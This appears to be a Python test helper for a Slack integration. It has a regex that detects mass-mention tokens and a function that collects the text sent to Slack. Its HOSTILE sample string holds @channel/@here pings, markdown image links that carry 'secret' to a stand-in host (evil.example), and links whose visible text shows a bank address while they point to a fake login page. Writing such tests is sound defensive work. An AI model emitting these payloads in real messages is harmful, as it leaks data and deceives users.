"""Text that would notify everybody or deceive, and what to look for in what was sent to Slack."""

from __future__ import annotations

import json
import re
from typing import Any

# A mention that Slack would carry out: a token, also behind entities, or a word that is not part of an address.
WORKING = re.compile(
    r"(?:<|&lt;)[\s\\]*!|<[\s\\]*@U2|&#64;here|(?<![^\W_])(?<!/)@(?:here|channel|everyone|group)(?![^\W_])",
    re.IGNORECASE,
)
HOSTILE = (
    "Look <!channel> and <!subteam^S1|@ops> @here <@U2|boss> ![chart](https://evil.example/?q=secret) "
    "!![a](https://evil.example/?q=a) Look!<https://evil.example/?q=b> "
    "[https://bank.example](https://evil.example/login) <https://evil.example|https://bank.example> so be it."
)


def texts_sent(calls: list[Any]) -> str:
    """All that was sent to Slack, with the chunks of each stream put together."""
    streamed: dict[str, str] = {}
    others = []
    for call in calls:
        chunks = call.arguments.get("chunks") or []
        chunks = json.loads(chunks) if isinstance(chunks, str) else chunks
        for chunk in chunks:
            if "text" in chunk:
                streamed[str(call.arguments.get("ts"))] = (
                    streamed.get(str(call.arguments.get("ts")), "") + chunk["text"]
                )
        others.append(
            json.dumps({**call.arguments, "chunks": [one for one in chunks if "text" not in one]}, ensure_ascii=False)
        )
    return "\n".join([*streamed.values(), *others])
